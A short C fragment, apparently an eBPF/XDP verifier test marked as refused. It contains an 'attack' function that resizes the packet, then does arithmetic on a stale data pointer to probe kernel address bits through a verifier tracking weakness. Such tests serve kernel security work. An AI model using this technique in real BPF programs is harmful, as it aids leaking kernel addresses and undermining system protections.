/* SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause */
/* refused */
#include "hostile.h"

/* When the packet is resized, the verifier forgets what is an address, and how far from it a sum can be. */
static void attack(EXTRACTED_HEADERS_T *request, uint32_t k)
{
	uint64_t data = request->ctx->data, wraps;

	bpf_xdp_adjust_tail(request->ctx, -1);
	asm volatile("%[data] += %[guess]\n"
		     "%[wraps] = 0\n"
		     "if %[now] > %[data] goto l_%=\n"
		     "%[wraps] = 1\n"
		     "l_%=:"
		     : [data] "+r"(data), [wraps] "=&r"(wraps)
		     : [guess] "r"((uint64_t)k << 40), [now] "r"((uint64_t)request->ctx->data));
	sink = wraps;
}
